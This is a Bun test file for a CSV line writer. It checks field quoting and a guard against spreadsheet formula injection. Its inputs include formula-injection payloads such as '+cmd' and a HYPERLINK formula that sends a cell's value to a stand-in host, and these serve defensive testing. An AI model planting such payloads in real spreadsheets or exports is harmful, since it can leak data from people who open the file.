import { describe, expect, test } from 'bun:test';
import { parseCsv, removeFormulaGuard } from '../../tests/support/csv.ts';
import { csvLine } from './csv.ts';

describe('a line of a table', () => {
  test('ends with CR and LF, leaves nothing empty and numbers as they are', () => {
    expect(csvLine(['a', 1, null, -7, 0.5, ''])).toBe('a,1,,-7,0.5,\r\n');
  });

  test.each([
    ['a "quoted" word', '"a ""quoted"" word"\r\n'],
    ['one, two', '"one, two"\r\n'],
    ['two\nlines', '"two\nlines"\r\n'],
    [' blank', '" blank"\r\n'],
    ['Zürich 東京', 'Zürich 東京\r\n'],
  ])('%j is quoted only where it must be', (text, line) => {
    expect(csvLine([text])).toBe(line);
  });

  test.each([
    '=1+1',
    '+cmd',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '  =1+1',
    '=HYPERLINK("http://a.example?"&A1,"go")',
    "'=1",
    "''@x",
  ])('%j cannot run, and reads back as it was', (text) => {
    const [[cell = ''] = []] = parseCsv(csvLine([text]));
    expect(cell).toBe(`'${text}`);
    expect(removeFormulaGuard(cell)).toBe(text);
  });

  test.each(["it's", "'quoted'", 'a=b', 'a@b.example', '', "'"])('%j is left alone', (text) => {
    const [[cell = ''] = []] = parseCsv(csvLine([text]));
    expect(cell).toBe(text);
    expect(removeFormulaGuard(cell)).toBe(text);
  });
});
